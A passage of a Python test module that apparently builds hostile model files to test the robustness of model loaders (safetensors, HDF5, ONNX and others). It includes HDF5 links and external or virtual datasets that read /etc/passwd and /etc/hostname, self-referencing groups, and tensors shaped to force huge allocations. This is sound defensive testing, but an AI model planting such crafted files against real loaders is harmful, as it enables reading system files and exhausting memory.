    ),
    "any: a weight norm of other shapes": lambda d: b.put(
        d, "model.safetensors", b.tensors({"a.weight_g": (100_000, 1), "a.weight_v": (1, 100_000)})
    ),
    "any: a mask of other shapes": lambda d: b.put(
        d, "model.safetensors", b.tensors({"a.weight_orig": (100_000, 1), "a.weight_mask": (1, 100_000)})
    ),
}  # fmt: skip


def _external(folder: Path, **more: str) -> Path:
    b.put(folder, "x.bin", bytes(64))
    return b.put(folder, "m.onnx", b.onnx_model((4, 4), location="x.bin", **more))


def _h5(
    *, shape: tuple[int, int], chunks: Any = None, compression: Any = None, fill: bool = False
) -> bytes:
    """A file with one dataset that takes next to no space."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        data = file.create_dataset(
            "layers/dense/vars/0", shape, np.float32, chunks=chunks, compression=compression
        )
        if fill:
            data[: chunks[0], : chunks[1]] = 0
    return stream.getvalue()


def _h5_links() -> bytes:
    """Groups that hold each other."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        group = file.create_group("layers/a")
        group["b"] = file["layers"]
        group["c"] = h5py.SoftLink("/layers/a/c")
        group["d"] = h5py.ExternalLink("/etc/passwd", "/x")
        file["layers/dense/vars/0"] = np.ones((16, 16), np.float32)
    return stream.getvalue()


def _h5_external() -> bytes:
    """A dataset whose numbers lie in another file."""
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file.create_dataset(
            "layers/dense/vars/0", (16, 16), np.uint8, external=[("/etc/passwd", 0, 256)]
        )
    return stream.getvalue()


def _h5_virtual() -> bytes:
    """A dataset that is composed of another file's."""
    stream = io.BytesIO()
    layout = h5py.VirtualLayout((16, 16), np.float32)
    layout[:] = h5py.VirtualSource("/etc/hostname", "x", shape=(16, 16))
    with h5py.File(stream, "w") as file:
        file.create_virtual_dataset("layers/dense/vars/0", layout)
    return stream.getvalue()


LOADERS: dict[str, dict[str, Attack]] = {
    "safetensors": SAFETENSORS,
    "index": INDEX,
    "config": CONFIG,
    "adapter": ADAPTERS,
    "gguf": GGUF,
    "torch": TORCH,
    "numpy": NUMPY,
    "others": OTHERS,
}
"""Attacks on each loader of models."""
